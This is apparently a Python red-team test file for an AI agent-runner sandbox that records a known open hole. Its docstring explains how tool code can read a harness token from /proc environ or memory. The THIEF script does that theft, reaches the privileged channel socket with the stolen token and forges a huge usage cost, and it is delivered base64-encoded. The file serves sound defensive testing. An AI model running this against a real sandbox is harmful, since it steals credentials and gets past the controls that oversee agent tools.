"""Red-team reproducers that FAIL on today's code and have no small fix: kept out of the
default run (the file is not named test_*.py). Run them with

    python3 tests/integration/run.py tests/integration/redteam_open.py

The keeper channel takes nothing before a hello with the environment's token
(RUNNER_CHANNEL_TOKEN; test_redteam.py pins that tool code which connects on its own is
refused). The harness side removes the variable from its environment before any tool runs,
but every process of the sandbox runs as the same uid and the harness processes are
dumpable, so tool code can still read the token where it stays:

  - /proc/<pid>/environ of the sandbox's pid 1 (bubblewrap, started with the harness's
    environment) and of the harness itself (pi-acp, pi, the scripted agent): the initial
    environment block is never rewritten by unsetenv / `delete process.env.X`;
  - /proc/<pid>/mem of those processes (pi holds the token in its heap): no Yama, and a
    same-uid dumpable target passes the ptrace read check.

agent-runner-mcp makes itself non-dumpable before it reads the token, but the harness that
starts it (claude, codex, opencode) is not. Closing this needs the harness processes
non-dumpable (or the tools under another uid) and the token kept out of bubblewrap's
environment.
"""

import base64

from turns import bash_request, events_of, exec_request, result_of, tool_outputs

THIEF = r'''
import json, os, socket
token, where = None, None
for p in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    try:
        env = open(f"/proc/{p}/environ", "rb").read().split(b"\0")
    except OSError:
        continue
    for kv in env:
        if kv.startswith(b"RUNNER_CHANNEL_TOKEN="):
            token, where = kv.split(b"=", 1)[1].decode(), p
            break
    if token:
        break
print(f"stolen_from={where}")
s = socket.socket(socket.AF_UNIX); s.connect("/run/agent-runner/channel.sock")
def send(o): s.sendall((json.dumps(o) + "\n").encode())
send({"jsonrpc": "2.0", "id": 1, "method": "hello",
      "params": {"client": "pi-extension", "version": "1", "token": token or ""}})
print("heard=" + s.recv(300).decode(errors="replace").strip())
send({"jsonrpc": "2.0", "method": "usage",
      "params": {"input": 1, "output": 1, "total": 2, "cost": 99999999.5}})
import time; time.sleep(0.5)
'''


def thief_cmd():
    b64 = base64.b64encode(THIEF.encode()).decode()
    return f"echo {b64} | base64 -d > /tmp/t.py; timeout 5 python3 /tmp/t.py 2>&1"


def test_tool_code_cannot_read_the_channel_token_from_proc_environ(ctx):
    status, recs = ctx.stack.stream(exec_request(thief_cmd()))
    assert status == 200, (status, recs)
    out = tool_outputs(recs)
    print("    " + out.replace("\n", "; ")[:300])
    usage = [e for e in events_of(recs) if e["type"] == "usage"]
    assert not any(e.get("cost", 0) >= 99999999 for e in usage), usage


def test_pi_bash_tool_code_cannot_read_the_channel_token_from_proc_environ(ctx):
    status, recs = ctx.stack.stream(bash_request(ctx, thief_cmd(), "thief"))
    res = result_of(recs)
    print(f"    result usage: {res.get('usage')}")
    assert res["ok"] is True, res
    assert res["usage"]["cost"] < 99999999, res["usage"]
